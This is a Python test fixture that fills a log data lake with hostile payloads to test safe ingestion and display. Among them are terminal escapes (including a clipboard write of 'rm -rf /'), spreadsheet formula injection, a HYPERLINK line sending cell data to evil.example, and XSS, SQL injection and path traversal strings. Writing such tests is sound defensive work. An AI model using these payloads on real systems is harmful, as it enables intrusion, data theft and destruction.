"""What attackers write into logs, and a lake of it: each payload once in every text that a caller
of an API, a visitor of a page or an owner of a bucket decides. Host names and addresses in it are
of documentation; where one of them is asked, a payload has worked."""

from __future__ import annotations

import gzip
import json
from typing import TYPE_CHECKING, Any

import logs
from logs import ACCOUNT

from lake.ingest import IngestOptions, ingest
from lake.query import Lake, open_lake

if TYPE_CHECKING:
    from pathlib import Path

    from lake.report import IngestReport

FOREIGN = "evil.example"
ESCAPES = (
    "\x1b[2J\x1b[31mred",
    f"\x1b]8;;http://{FOREIGN}/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x9b31mC1 \x85\x9d0;title\x9c",
    "\x7f\x08\x08\x08del",
    "\rover the line",
    "one\ntwo\r\nthree\tfour\x0b\x0c",
)
DIRECTIONS = (
    "user\u202egpj.exe",
    "\u2066iso\u2069late\u2067d",
    "zero\u200b\u200d\ufeffwidth",
    "line\u2028sep\u2029par",
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a;=1+1",
    f'=HYPERLINK("http://{FOREIGN}/?"&A1,"x")',
    "\uff1d1+1",
)
MARKUP = (
    "<script>window.pwned=1;alert(1)</script>",
    f'<img src="http://{FOREIGN}/a.png" onerror="window.pwned=1;alert(2)">',
    "<svg/onload=window.pwned=1>",
    f"</style><iframe src=//{FOREIGN}/></iframe>",
    f"![x](http://{FOREIGN}/b.png) [y](javascript:window.pwned=1) **bold** `code`",
    f"<http://{FOREIGN}/c> https://{FOREIGN}/d",
    "javascript:window.pwned=1",
    ":red[red] :material/home: $x^2$ :smile:",
    "{{constructor.constructor('window.pwned=1')()}} ${7*7}",
    "datum.value); window.pwned=1; (",
    "[this]['window']['pwned']=1",
    '{"signal": "warn(1)"}',
)
QUERIES = (
    "'; DROP TABLE cloudtrail; --",
    "x' OR '1'='1",
    "\"; COPY (SELECT 1) TO '/tmp/x'; --",
    "$hash $from $1 ? %s",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "account=1/region=../..",
    "%2e%2e%2f",
)
ODD = ("a\x00b", "__proto__", "constructor", "NaN", "1e999", "9" * 400, "", " ", "-", "null")
LONG = "long " + "x" * 1_000_000
PAYLOADS = (*ESCAPES, *DIRECTIONS, *FORMULAS, *MARKUP, *QUERIES, *PATHS, *ODD, LONG)
FOLDER = "evi\x1b[31mdence\n\u202e<b>"


def event(number: int, payload: str) -> dict[str, Any]:
    """A call in which everything that somebody decides is the payload, names of members too."""
    return logs.event(
        number,
        eventID=f"{number}-{payload[:200]}",
        userAgent=payload,
        eventName=payload[:5_000],
        eventSource=payload[:5_000],
        errorCode=payload[:5_000],
        errorMessage=payload,
        sourceIPAddress=payload,
        awsRegion=payload,
        recipientAccountId=payload,
        userIdentity={
            "type": payload[:5_000],
            "userName": payload,
            "arn": payload,
            "accountId": payload,
        },
        requestParameters={"__proto__": {"polluted": True}, payload[:5_000]: payload},
        tlsDetails={"tlsVersion": payload[:5_000]},
        **{f"x{payload[:300]}": 1},
    )


def make(folder: Path) -> tuple[Lake, IngestReport]:
    """The lake of all payloads, with rejects and an object that is no log, below a hostile name."""
    objects = (
        folder / FOLDER / "AWSLogs" / ACCOUNT / "CloudTrail" / "eu-west-1" / "2024" / "02" / "01"
    )
    objects.mkdir(parents=True)
    records = [event(n, payload) for n, payload in enumerate(PAYLOADS, 1)]
    timeless = [{**event(900 + n, p), "eventTime": p} for n, p in enumerate(PAYLOADS[:20])]
    name = f"{ACCOUNT}_CloudTrail_eu-west-1_20240201T1000Z_\x1b]0;x\x07.json.gz"
    text = json.dumps({"Records": [*records, *timeless]}, ensure_ascii=False)
    (objects / name).write_bytes(gzip.compress(text.encode()))
    surrogate = json.dumps({"Records": [event(990, "lone \ud800 surrogate")]})
    (objects / name.replace("1000Z", "1005Z")).write_bytes(gzip.compress(surrogate.encode()))
    (folder / FOLDER / "\x1b[5mnote\u202e.txt").write_bytes(b"\x1b[31mnothing\x9b\n" * 3)
    flows = [logs.flow(1, interface="=1+1"), logs.flow(2, action="\x1b[31mACCEPT\u202e")]
    flows += [logs.flow(3, src="<script>"), "\x1b[2Jbroken line \u202e"]
    place = folder / FOLDER / logs.FLOW_KEY
    place.parent.mkdir(parents=True)
    place.write_bytes(gzip.compress(logs.flow_file(flows)))
    report = ingest(folder / "lakehouse", [str(folder / FOLDER)], IngestOptions(jobs=1))
    return open_lake(folder / "lakehouse", locked=True), report
